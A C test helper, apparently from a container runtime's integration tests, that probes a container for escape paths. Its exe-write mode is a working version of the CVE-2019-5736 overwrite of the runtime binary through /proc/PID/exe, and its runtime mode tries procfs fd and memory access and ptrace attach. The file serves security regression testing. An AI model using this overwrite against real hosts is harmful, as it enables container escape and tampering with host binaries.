/* cve_probe — a static attacker copied into test rootfs by tests/integration/cve.bats.
 * `cve_probe exe-write PID FIFO`: the CVE-2019-5736 attack on PID's executable: keep an O_PATH
 *   fd on /proc/PID/exe, try to open it for writing while PID runs, let PID go on by reading
 *   FIFO to its end, wait for PID to exit, then reopen the kept fd for writing (once nothing
 *   executes the file any more), write and truncate.
 * `cve_probe runtime PID`: what a process can do to PID through procfs and ptrace: read its exe
 *   link, open its exe, list its fds and read where the first leads, open its memory,
 *   PTRACE_ATTACH (then detach).
 * `cve_probe settime`: set the system clock to the time it reads (harmless should it succeed).
 * Each step prints "STEP: ok", "STEP: VALUE" or "STEP: errno N (text)".  Exit status 0. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void
report (const char *step, int rc)
{
  if (rc >= 0)
    printf ("%s: ok\n", step);
  else
    printf ("%s: errno %d (%s)\n", step, errno, strerror (errno));
  fflush (stdout);
}

static void
sleep_ms (long ms)
{
  struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
  nanosleep (&ts, NULL);
}

/* Try to change the file behind fd path P: open for writing, write at offset 0, truncate.
 * With wait, an open refused with ETXTBSY is retried for 5 s: other processes may still run it. */
static void
try_write (const char *prefix, const char *p, int wait)
{
  char step[64];
  int fd = open (p, O_WRONLY | O_CLOEXEC), i;
  for (i = 0; wait && fd < 0 && errno == ETXTBSY && i < 500; i++)
    {
      sleep_ms (10);
      fd = open (p, O_WRONLY | O_CLOEXEC);
    }
  snprintf (step, sizeof step, "%s-open-wr", prefix);
  report (step, fd);
  if (fd < 0)
    return;
  snprintf (step, sizeof step, "%s-write", prefix);
  report (step, pwrite (fd, "PWNED", 5, 0) == 5 ? 0 : -1);
  snprintf (step, sizeof step, "%s-truncate", prefix);
  report (step, ftruncate (fd, 5));
  close (fd);
}

static int
exe_write (const char *pid, const char *fifo)
{
  char path[64], self[64], target[PATH_MAX];
  int opath, ffd, i;
  ssize_t n;
  char buf[4096];

  snprintf (path, sizeof path, "/proc/%s/exe", pid);
  opath = open (path, O_PATH | O_CLOEXEC);
  report ("exe-opath", opath);
  if (opath < 0)
    return 0;
  snprintf (self, sizeof self, "/proc/self/fd/%d", opath);
  n = readlink (self, target, sizeof target - 1);
  target[n > 0 ? n : 0] = '\0';
  printf ("exe-target: %s\n", target);
  try_write ("running", self, 0);
  /* Let the victim go on: it is blocked opening FIFO for writing. */
  ffd = open (fifo, O_RDONLY | O_CLOEXEC);
  report ("fifo-open", ffd);
  while (ffd >= 0 && read (ffd, buf, sizeof buf) > 0)
    ;
  if (ffd >= 0)
    close (ffd);
  for (i = 0; i < 1000 && readlink (path, buf, sizeof buf) >= 0; i++)
    sleep_ms (10);
  printf ("victim-exited: %s\n", i < 1000 ? "yes" : "no");
  try_write ("exited", self, 1);
  return 0;
}

static int
runtime (const char *pid)
{
  char path[64], target[PATH_MAX];
  ssize_t n;
  int fd;
  DIR *d;
  long p = strtol (pid, NULL, 10);

  snprintf (path, sizeof path, "/proc/%s/exe", pid);
  n = readlink (path, target, sizeof target - 1);
  if (n >= 0)
    {
      target[n] = '\0';
      printf ("readlink-exe: %s\n", target);
    }
  else
    report ("readlink-exe", -1);
  fd = open (path, O_RDONLY | O_CLOEXEC);
  report ("open-exe", fd);
  if (fd >= 0)
    close (fd);
  snprintf (path, sizeof path, "/proc/%s/fd", pid);
  d = opendir (path);
  if (d != NULL)
    {
      struct dirent *de;
      char first[300] = "";
      int count = 0;
      while ((de = readdir (d)) != NULL)
        if (de->d_name[0] != '.' && count++ == 0)
          snprintf (first, sizeof first, "/proc/%s/fd/%s", pid, de->d_name);
      closedir (d);
      printf ("list-fd: %d fds\n", count);
      /* Where a listed fd leads (a host file, a socket) is the leak that matters. */
      n = first[0] ? readlink (first, target, sizeof target - 1) : -1;
      if (n >= 0)
        {
          target[n] = '\0';
          printf ("readlink-fd: %s\n", target);
        }
      else if (first[0])
        report ("readlink-fd", -1);
    }
  else
    report ("list-fd", -1);
  snprintf (path, sizeof path, "/proc/%s/mem", pid);
  fd = open (path, O_RDONLY | O_CLOEXEC);
  report ("open-mem", fd);
  if (fd >= 0)
    close (fd);
  if (ptrace (PTRACE_ATTACH, (pid_t) p, NULL, NULL) < 0)
    report ("ptrace-attach", -1);
  else
    {
      report ("ptrace-attach", 0);
      waitpid ((pid_t) p, NULL, __WALL);
      ptrace (PTRACE_DETACH, (pid_t) p, NULL, NULL);
    }
  return 0;
}

static int
settime (void)
{
  struct timespec now;
  clock_gettime (CLOCK_REALTIME, &now);
  report ("settime", clock_settime (CLOCK_REALTIME, &now));
  return 0;
}

int
main (int argc, char **argv)
{
  if (argc == 4 && strcmp (argv[1], "exe-write") == 0)
    return exe_write (argv[2], argv[3]);
  if (argc == 3 && strcmp (argv[1], "runtime") == 0)
    return runtime (argv[2]);
  if (argc == 2 && strcmp (argv[1], "settime") == 0)
    return settime ();
  fprintf (stderr, "usage: cve_probe exe-write PID FIFO | cve_probe runtime PID | cve_probe settime\n");
  return 2;
}
